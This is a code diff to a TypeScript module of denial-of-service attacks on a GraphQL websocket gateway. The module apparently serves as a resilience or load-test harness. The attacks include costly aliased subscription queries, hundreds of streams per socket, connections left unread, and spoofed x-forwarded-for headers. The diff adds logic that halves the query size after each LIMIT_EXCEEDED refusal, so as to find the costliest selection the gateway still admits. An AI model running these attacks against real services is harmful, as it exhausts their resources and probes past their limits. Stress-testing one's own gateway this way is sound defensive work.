@@ -17,10 +17,13 @@ export interface Attack {
   readonly countBytes: (bytes: number) => void;
 }
 
-const MOVEMENTS = Array.from(
-  { length: 98 },
-  (_, index) => `a${index}: movements(first: 100) { nodes { reason } }`,
-).join(' ');
+/** Maximum number of aliased lists in a selection. An attacker tries fewer if the gateway refuses. */
+const MAX_LISTS = 98;
+const listsOf = (count: number): string =>
+  Array.from(
+    { length: count },
+    (_, index) => `a${index}: movements(first: 100) { nodes { reason } }`,
+  ).join(' ');
 /** Connections that one attacker keeps open without reading. */
 const UNREAD = 50;
 const REQUESTS_PER_SECOND = 20;
@@ -31,21 +34,25 @@ export const ATTACKS = {
   /** Sends inputs with thousands of unknown fields, and does not read the answers. */
   'unread errors': (attack: Attack) =>
     keepUnread(attack, HOSTILE_KINDS['unknown fields of an input'], attack.authorization),
-  /** Streams with a costly selection from an old cursor, which the attacker reads. */
+  /** Streams with the costliest selection that is admitted, from an old cursor; they are read. */
   'costly catch-up': (attack: Attack) => {
     openSocket(attack, (subscribe) => {
       for (let number = 0; number < 4; number += 1) {
-        const query = `subscription ($after: String) { stockChanged(after: $after) { n${number}: cursor stock { id ${MOVEMENTS} } } }`;
-        subscribe({ query, variables: { after: attack.oldCursor } });
+        subscribe((lists) => ({
+          query: `subscription ($after: String) { stockChanged(after: $after) { n${number}: cursor stock { id ${listsOf(lists)} } } }`,
+          variables: { after: attack.oldCursor },
+        }));
       }
     });
   },
-  /** Many different streams with a costly selection. */
+  /** Many different streams with the costliest selection that is admitted. */
   'many costly streams': (attack: Attack) => {
     openSocket(attack, (subscribe) => {
       for (let number = 0; number < 200; number += 1) {
-        const query = `subscription ($ids: [ID!]) { stockChanged(ids: $ids) { cursor stock { id n${number}: name ${MOVEMENTS} } } }`;
-        subscribe({ query, variables: { ids: [...attack.ids, `${attack.address} ${number}`] } });
+        subscribe((lists) => ({
+          query: `subscription ($ids: [ID!]) { stockChanged(ids: $ids) { cursor stock { id n${number}: name ${listsOf(lists)} } } }`,
+          variables: { ids: [...attack.ids, `${attack.address} ${number}`] },
+        }));
       }
     });
   },
@@ -53,8 +60,10 @@ export const ATTACKS = {
   'slow catch-up': (attack: Attack) => {
     const socket = openSocket(attack, (subscribe) => {
       for (let number = 0; number < SUBSCRIPTIONS; number += 1) {
-        const query = `subscription ($after: String) { stockChanged(after: $after) { cursor stock { id n${number}: name quantity } } }`;
-        subscribe({ query, variables: { after: attack.oldCursor } });
+        subscribe(() => ({
+          query: `subscription ($after: String) { stockChanged(after: $after) { cursor stock { id n${number}: name quantity } } }`,
+          variables: { after: attack.oldCursor },
+        }));
       }
     });
     // Reads for 10 ms of each second, so that pings are answered.
@@ -104,28 +113,47 @@ function keepUnread(
   setInterval(begin, 1_000 / REQUESTS_PER_SECOND);
 }
 
-type Subscribe = (payload: object) => void;
+/** Returns a subscription with a number of aliased lists. */
+type PayloadOf = (lists: number) => object;
 
 /** Opens a websocket, and another one whenever it closes. @returns the first socket */
-function openSocket(attack: Attack, begin: (subscribe: Subscribe) => void): WebSocket {
+function openSocket(
+  attack: Attack,
+  begin: (subscribe: (payloadOf: PayloadOf) => void) => void,
+): WebSocket {
   const socket = new WebSocket(
     `ws://${attack.host}:${attack.port}/graphql`,
     'graphql-transport-ws',
     { headers: { 'x-forwarded-for': attack.address } },
   );
-  let id = 0;
+  const running = new Map<string, { payloadOf: PayloadOf; lists: number }>();
+  let last = 0;
+  const subscribe = (payloadOf: PayloadOf, lists: number): void => {
+    last += 1;
+    running.set(`${last}`, { payloadOf, lists });
+    if (socket.readyState !== socket.OPEN) return;
+    socket.send(JSON.stringify({ id: `${last}`, type: 'subscribe', payload: payloadOf(lists) }));
+  };
+  const refused = (data: Buffer): void => {
+    const { id, payload } = JSON.parse(String(data));
+    const [error] = payload ?? [];
+    attack.count(`error ${error?.extensions?.code}`);
+    const asked = running.get(id);
+    running.delete(id);
+    // The selection is above a limit: the attacker tries half of it.
+    if (asked && asked.lists > 1 && error?.extensions?.code === 'LIMIT_EXCEEDED') {
+      subscribe(asked.payloadOf, Math.floor(asked.lists / 2));
+    }
+  };
   socket.on('error', () => attack.count('refused'));
   socket.on('open', () => socket.send('{"type":"connection_init"}'));
   socket.once('message', () => {
     attack.count('opened');
-    begin((payload) => {
-      id += 1;
-      socket.send(JSON.stringify({ id: String(id), type: 'subscribe', payload }));
-    });
+    begin((payloadOf) => subscribe(payloadOf, MAX_LISTS));
   });
   socket.on('message', (data: Buffer) => {
     attack.countBytes(data.length);
-    if (data.subarray(0, 60).includes('"error"')) attack.count('errors');
+    if (data.subarray(0, 60).includes('"error"')) refused(data);
   });
   socket.on('close', (code) => {
     attack.count(`closed ${code}`);
